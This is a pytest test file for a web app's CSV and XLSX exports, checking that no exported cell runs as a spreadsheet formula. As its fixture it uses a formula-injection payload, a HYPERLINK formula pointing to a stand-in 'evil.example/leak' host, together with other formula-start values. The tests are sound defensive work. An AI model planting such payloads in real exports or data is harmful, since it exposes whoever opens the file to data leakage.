"""Every CSV and XLSX export, fed a hostile value everywhere: no cell may run as a formula."""

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from carnet.capitalisation.exports import EXPORTS
from carnet.capitalisation.models import Video
from carnet.lib.spreadsheets import FORMULA_START
from carnet.timeline.enums import MilestoneState

from .capitalisation.factories import InterviewFactory
from .practices.factories import make_sheet
from .timeline.factories import EraFactory, MilestoneFactory

HOSTILE = '=HYPERLINK("http://evil.example/leak","Click")'

EXPORT_URLS = [
    "/euromed/timeline.csv",
    "/euromed/validations/?format=csv",
    "/euromed/validations/?format=xlsx",
    *(
        f"/euromed/capitalisation/export/{what}.{fmt}"
        for what in EXPORTS
        for fmt in ("csv", "xlsx")
    ),
]
# the exports that show an organisation, a moment or an item of this world by its name
HOLDING_THE_VALUE = {
    "/euromed/timeline.csv",
    "/euromed/validations/?format=csv",
    "/euromed/validations/?format=xlsx",
    "/euromed/capitalisation/export/interviews.csv",
    "/euromed/capitalisation/export/interviews.xlsx",
    "/euromed/capitalisation/export/videos.csv",
    "/euromed/capitalisation/export/videos.xlsx",
}


@pytest.fixture
def hostile_world(network, org_a, claire):
    org_a.name = HOSTILE
    org_a.save()
    MilestoneFactory(network=network, state=MilestoneState.PUBLISHED, title=HOSTILE, tags="-1")
    EraFactory(network=network, name="@era", start=datetime.date(2011, 1, 1))
    InterviewFactory(network=network, organisation=org_a, expectations="+1")
    Video.objects.create(network=network, organisation=org_a, title=HOSTILE, speaker="-x")
    make_sheet(network=network, organisation=org_a, by=claire, title="@sheet " + HOSTILE)
    return network


def cells(response):
    if response["Content-Type"].startswith("text/csv"):
        text = response.content.decode("utf-8-sig")
        return [(value, "s") for row in csv.reader(io.StringIO(text)) for value in row]
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [(c.value, c.data_type) for row in sheet.iter_rows() for c in row if c.value is not None]


@pytest.mark.parametrize("url", EXPORT_URLS)
def test_no_export_cell_runs_as_a_formula(client, claire, hostile_world, url):
    client.force_login(claire)
    response = client.get(url)
    assert response.status_code == 200
    found = cells(response)
    assert [c for c in found if c[1] == "f" or str(c[0]).startswith(FORMULA_START)] == []
    if url in HOLDING_THE_VALUE:
        assert ("'" + HOSTILE, "s") in found
    if "validations" in url:
        assert ("'@sheet " + HOSTILE + " (Draft)", "s") in found


@pytest.mark.parametrize("url", [u for u in EXPORT_URLS if "csv" in u])
def test_every_csv_starts_with_the_byte_order_mark_excel_needs(client, hostile_world, claire, url):
    client.force_login(claire)
    response = client.get(url)
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf"), url
